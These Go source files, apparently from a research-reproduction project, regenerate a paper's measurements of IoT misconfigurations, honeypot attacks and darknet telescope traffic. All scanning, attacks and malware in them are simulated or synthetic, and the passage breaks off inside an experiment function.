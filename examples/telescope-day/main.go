// telescope-day: capture one day of darknet traffic on the /8 telescope —
// both statistically generated background radiation and live packets from a
// Mirai-style bot that the netsim observer taps — then aggregate FlowTuples
// the way Table 8 does.
//
//	go run ./examples/telescope-day
package main

import (
	"fmt"
	"os"
	"time"

	"openhire/internal/attack"
	"openhire/internal/core/report"
	"openhire/internal/geo"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

func main() {
	clock := netsim.NewSimClock(netsim.ExperimentStart)
	network := netsim.NewNetwork(clock)
	prefix := netsim.MustParsePrefix("44.0.0.0/8")
	geodb := geo.NewDB(5, nil)
	tel := telescope.New(prefix, geodb)
	network.AddObserver(prefix, tel)

	// 1. A worm-like scanner probing random addresses in the dark /8:
	//    the telescope sees every SYN because nothing answers there.
	bot := netsim.MustParseIPv4("203.0.113.77")
	src := netsim.Endpoint{IP: bot, Port: 40000}
	for i := 0; i < 500; i++ {
		dst := netsim.Endpoint{IP: prefix.Nth(uint64(i) * 33521), Port: 23}
		network.SynProbe(src, dst, netsim.ProbeOptions{TTL: 52})
		if i%100 == 0 {
			clock.Advance(30 * time.Minute)
		}
	}
	fmt.Printf("live capture: %d flows from the scanning bot\n", tel.Len())

	// 2. Background radiation at 1/100000 of the paper's volume.
	gen := attack.NewDarknetGenerator(attack.DarknetConfig{
		Seed:      5,
		Telescope: tel,
		GeoDB:     geodb,
		Scale:     1.0 / 100000,
		Days:      1,
	})
	flows := gen.Run()
	fmt.Printf("background generator added %d flows\n\n", flows)

	// 3. Table 8 style aggregation.
	all := tel.Flows()
	t := report.NewTable("Telescope traffic by protocol", "Protocol", "Packets", "Unique IPs")
	for _, s := range telescope.AggregateByProtocol(all) {
		t.AddRow(string(s.Protocol), s.Packets, s.UniqueIPs)
	}
	_ = t.Render(os.Stdout)

	// 4. The bot's flows carry its wire-level fingerprint.
	botFlows := 0
	for _, ft := range all {
		if ft.SrcIP == bot {
			botFlows++
		}
	}
	fmt.Printf("\nflows attributable to the bot: %d (TTL 52, SYN-only)\n", botFlows)

	// 5. Hourly distribution of the simulated day.
	buckets := telescope.HourlyBuckets(all, netsim.ExperimentStart, 24)
	var max uint64 = 1
	for _, b := range buckets {
		if b > max {
			max = b
		}
	}
	fmt.Println("\nhourly packet volume:")
	for h, b := range buckets {
		fmt.Printf("  %02d:00  %7d  %s\n", h, b, report.Bar(float64(b)/float64(max), 30))
	}
}
