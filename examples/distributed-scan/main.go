// distributed-scan: the paper's Section 6 future work — geographically
// distributed scanning after Wan et al. — on the simulated universe. Three
// vantages share one ZMap permutation via sharding; one vantage operates
// under a regional blocklist, and the coverage delta quantifies what
// location-dependent policy costs.
//
//	go run ./examples/distributed-scan
package main

import (
	"context"
	"fmt"

	"openhire/internal/core/scan"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func main() {
	prefix := netsim.MustParsePrefix("100.0.0.0/17")
	universe := iot.NewUniverse(iot.UniverseConfig{
		Seed: 77, Prefix: prefix, DensityBoost: 64,
	})
	network := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	network.AddProvider(prefix, universe)

	module, _ := scan.ModuleFor(iot.ProtoTelnet)

	// 1. Unrestricted three-vantage scan.
	vantages := []scan.Vantage{
		{Source: netsim.MustParseIPv4("130.226.0.1")},  // "Denmark"
		{Source: netsim.MustParseIPv4("198.51.100.1")}, // "US"
		{Source: netsim.MustParseIPv4("203.0.113.1")},  // "Japan"
	}
	full := scan.RunDistributed(context.Background(), scan.DistributedConfig{
		Network: network, Prefix: prefix, Seed: 7, Vantages: vantages,
	}, module)
	fmt.Printf("unrestricted: %d responsive hosts (%d probes, slowest vantage %s)\n",
		len(full.Results), full.Stats.Probed, full.Stats.Elapsed.Round(1000000))
	for i, n := range full.PerVantage {
		fmt.Printf("  vantage %d (%s): %d hosts\n", i, vantages[i].Source, n)
	}

	// 2. The same scan with a regional blocklist on vantage 0.
	restricted := vantages
	restricted[0].Blocklist = netsim.NewPrefixSet(netsim.MustParsePrefix("100.0.0.0/19"))
	limited := scan.RunDistributed(context.Background(), scan.DistributedConfig{
		Network: network, Prefix: prefix, Seed: 7, Vantages: restricted,
	}, module)
	onlyFull, _ := scan.CoverageDelta(full.Results, limited.Results)
	fmt.Printf("\nwith a regional blocklist on vantage 0: %d hosts (%d lost)\n",
		len(limited.Results), len(onlyFull))
	inRange := 0
	for _, ip := range onlyFull {
		if restricted[0].Blocklist.Contains(ip) {
			inRange++
		}
	}
	fmt.Printf("lost hosts inside the blocklisted /19: %d of %d\n", inRange, len(onlyFull))
}
