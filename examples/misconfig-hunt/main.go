// misconfig-hunt: the full Section 3.1/3.2 pipeline on a /16 — scan,
// cross-check against the simulated open datasets (Project Sonar, Shodan),
// fingerprint and filter honeypots, classify misconfigurations, and type
// devices from their banners.
//
//	go run ./examples/misconfig-hunt
package main

import (
	"context"
	"fmt"
	"os"

	"openhire/internal/core/classify"
	"openhire/internal/core/fingerprint"
	"openhire/internal/core/report"
	"openhire/internal/core/scan"
	"openhire/internal/datasets"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func main() {
	prefix := netsim.MustParsePrefix("100.0.0.0/16")
	universe := iot.NewUniverse(iot.UniverseConfig{
		Seed:         7,
		Prefix:       prefix,
		DensityBoost: 64,
	})
	network := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	network.AddProvider(prefix, universe)

	scanner := scan.NewScanner(scan.Config{
		Network: network,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  prefix,
		Seed:    7,
		Workers: 128,
	})
	fmt.Println("scanning", prefix, "...")
	results, _ := scanner.RunAll(context.Background(), scan.AllModules())

	// Cross-check with the open datasets, Table 4 style.
	sonar := datasets.ProjectSonar(8, universe)
	shodan := datasets.Shodan(9, universe)
	t4 := report.NewTable("Exposure by source", "Protocol", "Our scan", "Sonar", "Shodan")
	for _, p := range iot.ScannedProtocols {
		sonarCell := "NA"
		if sonar.Covers(p) {
			sonarCell = report.Comma(sonar.Count(p))
		}
		t4.AddRow(string(p), len(results[p]), sonarCell, shodan.Count(p))
	}
	fmt.Println()
	_ = t4.Render(os.Stdout)

	// Honeypot sanitization.
	var dets []fingerprint.Detection
	var findings []classify.Finding
	for _, p := range iot.ScannedProtocols {
		genuine, d := fingerprint.Filter(results[p])
		dets = append(dets, d...)
		findings = append(findings, classify.ClassifyAll(genuine)...)
	}
	fmt.Printf("\nfiltered %d honeypots:", len(dets))
	for _, fc := range fingerprint.CountByFamily(dets) {
		fmt.Printf(" %s=%d", fc.Family, fc.Count)
	}
	fmt.Println()

	// Misconfiguration + device-type summary.
	summary := classify.Summarize(findings)
	fmt.Printf("\nmisconfigured devices: %d (%.1f%% of responses)\n",
		summary.TotalMisconfigured,
		100*float64(summary.TotalMisconfigured)/float64(len(findings)))

	t2 := report.NewTable("\nDevice types per protocol", "Protocol", "Type", "Count")
	for _, p := range iot.ScannedProtocols {
		for _, typ := range report.SortedKeys(stringKeys(summary.TypeByProtocol[p])) {
			t2.AddRow(string(p), typ, summary.TypeByProtocol[p][iot.DeviceType(typ)])
		}
	}
	_ = t2.Render(os.Stdout)
}

func stringKeys(m map[iot.DeviceType]int) map[string]int {
	out := make(map[string]int, len(m))
	for k, v := range m {
		out[string(k)] = v
	}
	return out
}
