// Quickstart: build a tiny simulated Internet, scan it for misconfigured
// IoT devices, and print what the pipeline finds.
//
//	go run ./examples/quickstart
package main

import (
	"context"
	"fmt"

	"openhire/internal/core/classify"
	"openhire/internal/core/fingerprint"
	"openhire/internal/core/scan"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func main() {
	// 1. A /20 universe (4,096 addresses) with a boosted device density so
	//    the small range still contains a realistic population.
	prefix := netsim.MustParsePrefix("100.0.0.0/20")
	universe := iot.NewUniverse(iot.UniverseConfig{
		Seed:         42,
		Prefix:       prefix,
		DensityBoost: 256,
	})
	network := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	network.AddProvider(prefix, universe)

	// 2. Scan all six protocols, ZMap-style.
	scanner := scan.NewScanner(scan.Config{
		Network: network,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  prefix,
		Seed:    42,
		Workers: 64,
	})
	results, _ := scanner.RunAll(context.Background(), scan.AllModules())

	// 3. Filter honeypots and classify misconfigurations.
	for _, proto := range iot.ScannedProtocols {
		genuine, honeypots := fingerprint.Filter(results[proto])
		findings := classify.ClassifyAll(genuine)
		misconfigured := 0
		for _, f := range findings {
			if f.Misconfigured() {
				misconfigured++
			}
		}
		fmt.Printf("%-7s exposed=%-4d misconfigured=%-4d honeypots=%d\n",
			proto, len(genuine), misconfigured, len(honeypots))
	}

	// 4. Show a few concrete findings with their evidence.
	fmt.Println("\nsample findings:")
	shown := 0
	for _, proto := range iot.ScannedProtocols {
		genuine, _ := fingerprint.Filter(results[proto])
		for _, f := range classify.ClassifyAll(genuine) {
			if !f.Misconfigured() || shown >= 8 {
				continue
			}
			shown++
			device := f.DeviceModel
			if device == "" {
				device = "(untyped)"
			}
			fmt.Printf("  %-15s %-7s %-28s evidence: %q\n",
				f.Result.IP, proto, f.Misconfig, f.Indicator)
			_ = device
		}
	}
}
