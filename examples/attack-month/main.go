// attack-month: deploy the six honeypots, replay a scaled-down attack
// month against them, and analyze the log the way Section 4.3/5 does —
// attack types, credential dictionary, malware captures and multistage
// sequences.
//
//	go run ./examples/attack-month
package main

import (
	"context"
	"fmt"
	"os"

	"openhire/internal/attack"
	"openhire/internal/attack/malware"
	"openhire/internal/core/report"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/intel"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func main() {
	clock := netsim.NewSimClock(netsim.ExperimentStart)
	network := netsim.NewNetwork(clock)
	pots, log := honeypot.DeployAll(network, netsim.MustParseIPv4("130.226.56.10"))

	corpus := malware.NewCorpus(99, nil)
	sources := attack.NewSources(99, nil, geo.NewRDNS(99), intel.NewGreyNoise(99, 0.81))
	campaign := attack.NewCampaign(attack.CampaignConfig{
		Seed:      99,
		Network:   network,
		Honeypots: pots,
		Sources:   sources,
		Corpus:    corpus,
		Intensity: 0.01, // ~1% of the paper's volume: ~2,000 conversations
		Workers:   64,
		Clock:     clock,
	})
	fmt.Println("replaying April 2021 ...")
	stats := campaign.Run(context.Background())
	fmt.Printf("ran %d attack conversations in %s; honeypots logged %d events\n\n",
		stats.EventsRun, stats.Elapsed.Round(1000000), log.Len())

	events := log.Events()

	// What did each honeypot see?
	counts := honeypot.CountByHoneypotProtocol(events)
	t := report.NewTable("Events per honeypot", "Honeypot", "Protocol", "Events")
	for _, hp := range pots {
		for _, proto := range hp.Protocols() {
			if n := counts[hp.Name][proto]; n > 0 {
				t.AddRow(hp.Name, string(proto), n)
			}
		}
	}
	_ = t.Render(os.Stdout)

	// Credential dictionary (Table 12).
	fmt.Println("\ntop Telnet credentials:")
	for _, c := range honeypot.TopCredentials(events, iot.ProtoTelnet, 5) {
		fmt.Printf("  %-10s %-12s %d attempts\n", c.Username, c.Password, c.Count)
	}

	// Malware captures, identified against the corpus like a VirusTotal
	// lookup.
	fmt.Println("\nmalware captures:")
	seen := map[string]int{}
	for _, ev := range events {
		if ev.Type != honeypot.AttackMalware || len(ev.Payload) == 0 {
			continue
		}
		if sample, ok := corpus.Identify(ev.Payload); ok {
			seen[string(sample.Family)]++
		}
	}
	for fam, n := range seen {
		fmt.Printf("  %-12s %d samples\n", fam, n)
	}

	// Multistage adversaries (Figure 9).
	ms := honeypot.DetectMultistage(events)
	fmt.Printf("\nmultistage adversaries: %d\n", len(ms))
	for i, a := range ms {
		if i >= 5 {
			fmt.Printf("  ... and %d more\n", len(ms)-5)
			break
		}
		fmt.Printf("  %-15s", a.Src)
		for j, p := range a.Protocols {
			if j > 0 {
				fmt.Print(" -> ")
			} else {
				fmt.Print(" ")
			}
			fmt.Print(p)
		}
		fmt.Printf("  (%d events)\n", a.Events)
	}
}
