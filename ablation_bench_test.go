// Ablation benchmarks for the design choices DESIGN.md calls out: the
// ZMap-style address permutation vs a sequential sweep, the mask-map
// blocklist vs a linear scan, and scan worker scaling.
package openhire

import (
	"context"
	"fmt"
	"testing"

	"openhire/internal/core/scan"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// BenchmarkAblationPermutation measures the full-cycle multiplicative-group
// iterator against a plain sequential sweep over the same domain. The
// permutation costs one modular multiplication per address — the price of
// not hammering one destination network at a time.
func BenchmarkAblationPermutation(b *testing.B) {
	const n = 1 << 20
	b.Run("group-permutation", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			pm := scan.NewPermutation(n, uint64(i+1))
			var sum uint64
			for {
				v, ok := pm.Next()
				if !ok {
					break
				}
				sum += v
			}
			if sum != n*(n-1)/2 {
				b.Fatalf("incomplete cycle: sum %d", sum)
			}
		}
	})
	b.Run("sequential", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			var sum uint64
			for v := uint64(0); v < n; v++ {
				sum += v
			}
			if sum != n*(n-1)/2 {
				b.Fatal("bad sum")
			}
		}
	})
}

// BenchmarkAblationBlocklist measures the mask-map PrefixSet against a
// linear scan over the same prefixes, at the default blocklist size.
func BenchmarkAblationBlocklist(b *testing.B) {
	set := scan.DefaultBlocklist()
	prefixes := set.Prefixes()
	addrs := make([]netsim.IPv4, 4096)
	for i := range addrs {
		addrs[i] = netsim.IPv4(uint32(i) * 1048583)
	}
	b.Run("mask-map", func(b *testing.B) {
		b.ReportAllocs()
		hits := 0
		for i := 0; i < b.N; i++ {
			if set.Contains(addrs[i%len(addrs)]) {
				hits++
			}
		}
		_ = hits
	})
	b.Run("linear", func(b *testing.B) {
		b.ReportAllocs()
		hits := 0
		for i := 0; i < b.N; i++ {
			ip := addrs[i%len(addrs)]
			for _, p := range prefixes {
				if p.Contains(ip) {
					hits++
					break
				}
			}
		}
		_ = hits
	})
}

// BenchmarkAblationScanWorkers measures one protocol sweep of a /18 at
// different worker counts — the concurrency knob of the scan engine.
func BenchmarkAblationScanWorkers(b *testing.B) {
	prefix := netsim.MustParsePrefix("60.0.0.0/18")
	u := iot.NewUniverse(iot.UniverseConfig{Seed: 50, Prefix: prefix, DensityBoost: 50})
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	n.AddProvider(prefix, u)
	module, _ := scan.ModuleFor(iot.ProtoMQTT)
	for _, workers := range []int{8, 32, 128} {
		b.Run(fmt.Sprintf("workers-%d", workers), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				s := scan.NewScanner(scan.Config{
					Network: n, Source: 1, Prefix: prefix,
					Seed: uint64(i + 1), Workers: workers,
				})
				st := s.Run(context.Background(), module, nil)
				if st.Responded == 0 {
					b.Fatal("no responses")
				}
			}
		})
	}
}

// BenchmarkAblationFloodThreshold measures the honeypot flood-detector's
// bookkeeping cost per event (the price every UDP datagram pays for DoS
// classification).
func BenchmarkAblationHostDerivation(b *testing.B) {
	// Lazily derived hosts vs a hypothetical precomputed table: derivation
	// is the design choice letting a /14 universe cost zero memory. This
	// measures the per-lookup price.
	prefix := netsim.MustParsePrefix("60.0.0.0/14")
	u := iot.NewUniverse(iot.UniverseConfig{Seed: 51, Prefix: prefix, DensityBoost: 16})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = u.Host(prefix.Nth(uint64(i) % prefix.Size()))
	}
}
