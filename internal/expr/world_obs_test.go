package expr

import (
	"testing"

	"openhire/internal/obs"
)

// TestWorldTraceZeroPerturbation pins the harness half of the observability
// contract: a World with a Tracer attached produces exactly the measurements
// of an untraced one, and records one span per executed phase in completion
// order with non-negative simulated durations.
func TestWorldTraceZeroPerturbation(t *testing.T) {
	cfg := QuickConfig()

	bare := BuildWorld(cfg)
	_, bareStats := bare.RunScan()
	bareFlows := bare.RunTelescope()

	traced := BuildWorld(cfg)
	traced.Trace = obs.NewTracer(traced.Clock)
	_, tracedStats := traced.RunScan()
	tracedFlows := traced.RunTelescope()

	for proto, a := range bareStats {
		b := tracedStats[proto]
		a.Elapsed, b.Elapsed = 0, 0 // wall-clock, excluded by design
		if a != b {
			t.Fatalf("%s scan stats differ under tracing:\nbare:   %+v\ntraced: %+v", proto, a, b)
		}
	}
	if bareFlows != tracedFlows {
		t.Fatalf("telescope flow count differs under tracing: %d vs %d", bareFlows, tracedFlows)
	}

	spans := traced.Trace.Spans()
	if len(spans) != 2 || spans[0].Name != "scan" || spans[1].Name != "telescope" {
		t.Fatalf("spans = %+v, want [scan telescope]", spans)
	}
	for _, s := range spans {
		if s.SimNS < 0 {
			t.Fatalf("span %s has negative simulated duration %d", s.Name, s.SimNS)
		}
		if s.WallNS <= 0 {
			t.Fatalf("span %s has non-positive wall duration %d", s.Name, s.WallNS)
		}
	}

	// Phase results are cached: re-running a traced phase must not record a
	// second span.
	traced.RunScan()
	if got := len(traced.Trace.Spans()); got != 2 {
		t.Fatalf("cached phase re-run grew the span list to %d", got)
	}
}
