package expr

import (
	"fmt"
	"sort"
	"strings"

	"openhire/internal/attack"
	"openhire/internal/core/correlate"
	"openhire/internal/core/fingerprint"
	"openhire/internal/core/report"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

// Result is one executed experiment.
type Result struct {
	ID          string
	Title       string
	Artifact    string // rendered table / figure data
	Comparisons []report.Comparison
}

// Experiment regenerates one paper artifact from a World.
type Experiment struct {
	ID    string
	Title string
	Run   func(w *World) Result
}

// All returns every experiment in paper order.
func All() []Experiment {
	return []Experiment{
		{"table4", "Table 4: exposed systems by protocol and source", Table4},
		{"table5", "Table 5: misconfigured devices per protocol", Table5},
		{"table6", "Table 6: honeypots detected by Telnet banner", Table6},
		{"table7", "Table 7: attack events by honeypot and protocol", Table7},
		{"table8", "Table 8: telescope suspicious traffic", Table8},
		{"table10", "Table 10: misconfigured devices by country", Table10},
		{"table11", "Table 11: device-type identifiers", Table11},
		{"table12", "Table 12: top Telnet/SSH credentials", Table12},
		{"table13", "Table 13: malware corpus", Table13},
		{"fig2", "Figure 2: top device types by protocol", Figure2},
		{"fig3", "Figure 3: scanning-service traffic on honeypots", Figure3},
		{"fig4", "Figure 4: attack types per honeypot", Figure4},
		{"fig5", "Figure 5: scanning-service classification vs GreyNoise", Figure5},
		{"fig6", "Figure 6: malicious sources by VirusTotal", Figure6},
		{"fig7", "Figure 7: attack trends by type and protocol", Figure7},
		{"fig8", "Figure 8: total attacks by day", Figure8},
		{"fig9", "Figure 9: multistage attacks", Figure9},
		{"headline", "Section 5.3: misconfigured devices that attack", Headline},
	}
}

// Find returns the experiment with the given id.
func Find(id string) (Experiment, bool) {
	for _, e := range All() {
		if e.ID == id {
			return e, true
		}
	}
	return Experiment{}, false
}

// Table4 compares exposure counts across our scan, Sonar and Shodan.
func Table4(w *World) Result {
	results, _ := w.RunScan()
	sonar, shodan := w.Sonar(), w.Shodan()
	scale := w.ScaleFactor()

	t := report.NewTable("Exposed systems by protocol and source (simulated universe)",
		"Protocol", "ZMap Scan", "Project Sonar", "Shodan", "Scaled ZMap", "Paper ZMap")
	paper := iot.PaperExposedCounts()
	var comps []report.Comparison
	total := 0
	for _, p := range iot.ScannedProtocols {
		n := len(results[p])
		total += n
		sonarCell := "NA"
		if sonar.Covers(p) {
			sonarCell = report.Comma(sonar.Count(p))
		}
		t.AddRow(string(p), n, sonarCell, shodan.Count(p),
			int(float64(n)*scale), paper[p])
		comps = append(comps, report.Comparison{
			Metric: "exposed." + string(p), Paper: float64(paper[p]),
			Measured: float64(n), Scaled: float64(n) * scale,
		})
	}
	comps = append(comps, report.Comparison{
		Metric: "exposed.total", Paper: 14397929,
		Measured: float64(total), Scaled: float64(total) * scale,
	})
	return Result{ID: "table4", Title: "Table 4", Artifact: t.String(), Comparisons: comps}
}

// Table5 reports misconfigured devices per protocol and class.
func Table5(w *World) Result {
	_, summary := w.Classify()
	scale := w.ScaleFactor()
	paper := iot.PaperMisconfiguredCounts()

	// Paper presentation: ascending by count.
	type row struct {
		class iot.Misconfig
		count int
	}
	rows := make([]row, 0, len(summary.MisconfigByClass))
	for cls, n := range summary.MisconfigByClass {
		rows = append(rows, row{cls, n})
	}
	sort.Slice(rows, func(i, j int) bool {
		if rows[i].count != rows[j].count {
			return rows[i].count < rows[j].count
		}
		return rows[i].class < rows[j].class
	})
	t := report.NewTable("Misconfigured devices per protocol",
		"Protocol", "Vulnerability", "#Devices", "Scaled", "Paper")
	var comps []report.Comparison
	for _, r := range rows {
		t.AddRow(string(r.class.Protocol()), r.class.String(), r.count,
			int(float64(r.count)*scale), paper[r.class])
		comps = append(comps, report.Comparison{
			Metric: "misconfig." + string(r.class.Protocol()) + "." + r.class.String(),
			Paper:  float64(paper[r.class]), Measured: float64(r.count),
			Scaled: float64(r.count) * scale,
		})
	}
	t.AddRow("", "Total", summary.TotalMisconfigured,
		int(float64(summary.TotalMisconfigured)*scale), 1832893)
	comps = append(comps, report.Comparison{
		Metric: "misconfig.total", Paper: 1832893,
		Measured: float64(summary.TotalMisconfigured),
		Scaled:   float64(summary.TotalMisconfigured) * scale,
	})
	return Result{ID: "table5", Title: "Table 5", Artifact: t.String(), Comparisons: comps}
}

// Table6 reports honeypot detections by family. It runs on a dedicated
// universe with oversampled honeypots so the nine-family distribution is
// statistically visible, then scales back.
func Table6(w *World) Result {
	// Honeypot-only oversampled world: device densities as configured,
	// honeypot density ×64.
	cfg := w.Cfg
	cfg.HoneypotBoost = cfg.DensityBoost * 64
	over := BuildWorld(cfg)
	_, dets := over.FilterHoneypots()
	counts := fingerprint.CountByFamily(dets)
	paper := fingerprint.PaperCounts()
	scale := over.ScaleFactor() / 64

	t := report.NewTable("Detected honeypots by Telnet banner signature",
		"Honeypot", "#Detected", "Scaled", "Paper")
	var comps []report.Comparison
	total := 0
	for _, fc := range counts {
		total += fc.Count
		t.AddRow(fc.Family, fc.Count, int(float64(fc.Count)*scale), paper[fc.Family])
		comps = append(comps, report.Comparison{
			Metric: "honeypots." + fc.Family, Paper: float64(paper[fc.Family]),
			Measured: float64(fc.Count), Scaled: float64(fc.Count) * scale,
		})
	}
	t.AddRow("Total", total, int(float64(total)*scale), iot.PaperHoneypotTotal)
	comps = append(comps, report.Comparison{
		Metric: "honeypots.total", Paper: iot.PaperHoneypotTotal,
		Measured: float64(total), Scaled: float64(total) * scale,
	})
	return Result{ID: "table6", Title: "Table 6", Artifact: t.String(), Comparisons: comps}
}

// Table7 reports attack events per honeypot and protocol.
func Table7(w *World) Result {
	w.RunAttackMonth()
	events := w.Log.Events()
	counts := honeypot.CountByHoneypotProtocol(events)
	scale := 1.0 / w.Cfg.AttackIntensity

	t := report.NewTable("Attack events by honeypot and protocol",
		"Honeypot", "Protocol", "#Events", "Scaled", "Paper")
	var comps []report.Comparison
	total := 0
	for _, target := range attack.PaperTargets {
		n := counts[target.Honeypot][target.Protocol]
		total += n
		t.AddRow(target.Honeypot, string(target.Protocol), n,
			int(float64(n)*scale), target.Events)
		comps = append(comps, report.Comparison{
			Metric: "events." + target.Honeypot + "." + string(target.Protocol),
			Paper:  float64(target.Events), Measured: float64(n),
			Scaled: float64(n) * scale,
		})
	}
	t.AddRow("Total", "", total, int(float64(total)*scale), attack.PaperTotalEvents)
	comps = append(comps, report.Comparison{
		Metric: "events.total", Paper: attack.PaperTotalEvents,
		Measured: float64(total), Scaled: float64(total) * scale,
	})
	return Result{ID: "table7", Title: "Table 7", Artifact: t.String(), Comparisons: comps}
}

// Table8 reports telescope traffic per protocol.
func Table8(w *World) Result {
	w.RunTelescope()
	flows := w.Telescope.Flows()
	stats := telescope.AggregateByProtocol(flows)
	scale := 1.0 / w.Cfg.TelescopeScale

	paperDaily := make(map[iot.Protocol]uint64)
	paperUnique := make(map[iot.Protocol]int)
	for _, cal := range attack.PaperTelescope {
		paperDaily[cal.Protocol] = cal.DailyCount
		paperUnique[cal.Protocol] = cal.UniqueIPs
	}
	t := report.NewTable("Telescope suspicious traffic by protocol (per simulated day)",
		"Protocol", "Packets", "Unique IPs", "Scaled pkts", "Paper daily avg")
	var comps []report.Comparison
	for _, s := range stats {
		t.AddRow(string(s.Protocol), s.Packets, s.UniqueIPs,
			uint64(float64(s.Packets)*scale/float64(w.Cfg.TelescopeDays)),
			paperDaily[s.Protocol])
		comps = append(comps, report.Comparison{
			Metric:   "telescope." + string(s.Protocol) + ".packets",
			Paper:    float64(paperDaily[s.Protocol]),
			Measured: float64(s.Packets),
			Scaled:   float64(s.Packets) * scale / float64(w.Cfg.TelescopeDays),
		})
		comps = append(comps, report.Comparison{
			Metric:   "telescope." + string(s.Protocol) + ".uniqueIPs",
			Paper:    float64(paperUnique[s.Protocol]),
			Measured: float64(s.UniqueIPs),
			Scaled:   float64(s.UniqueIPs) * scale,
		})
	}
	return Result{ID: "table8", Title: "Table 8", Artifact: t.String(), Comparisons: comps}
}

// Table10 reports misconfigured devices by country.
func Table10(w *World) Result {
	findings, _ := w.Classify()
	var ips []netsim.IPv4
	for _, f := range findings {
		if f.Misconfigured() {
			ips = append(ips, f.Result.IP)
		}
	}
	counts := w.GeoDB.CountryCounts(ips)
	t := report.NewTable("Misconfigured devices by country",
		"Country", "Count", "Share")
	var comps []report.Comparison
	paperShare := map[string]float64{}
	for _, cw := range geo.PaperCountryWeights {
		paperShare[string(cw.Country)] = cw.Weight
	}
	for _, c := range counts {
		share := float64(c.Count) / float64(len(ips))
		t.AddRow(string(c.Country), c.Count, report.Percent(share))
		comps = append(comps, report.Comparison{
			Metric: "country." + string(c.Country),
			Paper:  paperShare[string(c.Country)], Measured: share,
			Note: "share of misconfigured devices",
		})
	}
	return Result{ID: "table10", Title: "Table 10", Artifact: t.String(), Comparisons: comps}
}

// Table11 verifies device-type identifiers resolve against live banners.
func Table11(w *World) Result {
	findings, summary := w.Classify()
	tagged := 0
	byModel := make(map[string]int)
	for _, f := range findings {
		if f.DeviceModel != "" {
			tagged++
			byModel[f.DeviceModel]++
		}
	}
	t := report.NewTable("Device models identified from banners/responses",
		"Model", "Type", "Count")
	for _, name := range report.SortedKeys(byModel) {
		m, _ := iot.FindModel(name)
		t.AddRow(name, string(m.Type), byModel[name])
	}
	comps := []report.Comparison{{
		Metric: "devicetags.models", Paper: float64(len(iot.Catalog)),
		Measured: float64(len(byModel)),
		Note:     "distinct catalog models observed in scan",
	}, {
		Metric: "devicetags.tagged", Paper: 0, Measured: float64(tagged),
		Note: "tagged results (paper gives no total)",
	}}
	_ = summary
	return Result{ID: "table11", Title: "Table 11", Artifact: t.String(), Comparisons: comps}
}

// Table12 extracts the top credentials from honeypot logs.
func Table12(w *World) Result {
	w.RunAttackMonth()
	events := w.Log.Events()
	t := report.NewTable("Top credentials used by adversaries",
		"Protocol", "Username", "Password", "Count")
	var comps []report.Comparison
	for _, proto := range []iot.Protocol{iot.ProtoTelnet, iot.ProtoSSH} {
		creds := honeypot.TopCredentials(events, proto, 10)
		for _, c := range creds {
			t.AddRow(string(proto), c.Username, c.Password, c.Count)
		}
		if len(creds) > 0 {
			comps = append(comps, report.Comparison{
				Metric: "credentials." + string(proto) + ".top",
				Paper:  1, Measured: boolToFloat(creds[0].Username == "admin" && creds[0].Password == "admin"),
				Note: "top pair is admin/admin (Table 12)",
			})
		}
	}
	return Result{ID: "table12", Title: "Table 12", Artifact: t.String(), Comparisons: comps}
}

func boolToFloat(b bool) float64 {
	if b {
		return 1
	}
	return 0
}

// Table13 regenerates the malware corpus table and verifies captured
// payloads resolve to corpus samples.
func Table13(w *World) Result {
	w.RunAttackMonth()
	identified := make(map[string]int)
	for _, ev := range w.Log.Events() {
		if ev.Type != honeypot.AttackMalware || len(ev.Payload) == 0 {
			continue
		}
		if s, ok := w.Corpus.Identify(ev.Payload); ok {
			identified[string(s.Family)]++
		}
	}
	t := report.NewTable("Malware corpus (synthetic; hashes of generated samples)",
		"SlNo", "SHA256", "Variant")
	for i, s := range w.Corpus.Samples() {
		t.AddRow(i+1, s.SHA256, string(s.Family))
		if i >= 19 { // artifact shows the head; full corpus via the API
			t.AddRow("...", fmt.Sprintf("(%d more samples)", w.Corpus.Len()-20), "")
			break
		}
	}
	comps := []report.Comparison{{
		Metric: "malware.corpus", Paper: 134, Measured: float64(w.Corpus.Len()),
		Note: "Table 13 lists 134 samples; corpus mirrors the variant mix",
	}, {
		Metric: "malware.identifiedFamilies", Paper: 0,
		Measured: float64(len(identified)),
		Note:     "families observed in captured payloads",
	}}
	return Result{ID: "table13", Title: "Table 13", Artifact: t.String(), Comparisons: comps}
}

// Figure2 reports top device types per protocol.
func Figure2(w *World) Result {
	_, summary := w.Classify()
	t := report.NewTable("Top IoT device types by protocol (%)",
		"Protocol", "Type", "Share")
	var comps []report.Comparison
	for _, p := range iot.ScannedProtocols {
		types := summary.TypeByProtocol[p]
		if len(types) == 0 {
			continue
		}
		total := 0
		for _, n := range types {
			total += n
		}
		type tc struct {
			typ iot.DeviceType
			n   int
		}
		rows := make([]tc, 0, len(types))
		for typ, n := range types {
			rows = append(rows, tc{typ, n})
		}
		sort.Slice(rows, func(i, j int) bool {
			if rows[i].n != rows[j].n {
				return rows[i].n > rows[j].n
			}
			return rows[i].typ < rows[j].typ
		})
		for _, r := range rows {
			t.AddRow(string(p), string(r.typ), report.Percent(float64(r.n)/float64(total)))
		}
	}
	// Cameras must lead Telnet and UPnP identifications (Figure 2 shape).
	for _, p := range []iot.Protocol{iot.ProtoTelnet, iot.ProtoUPnP} {
		types := summary.TypeByProtocol[p]
		max := 0
		for _, n := range types {
			if n > max {
				max = n
			}
		}
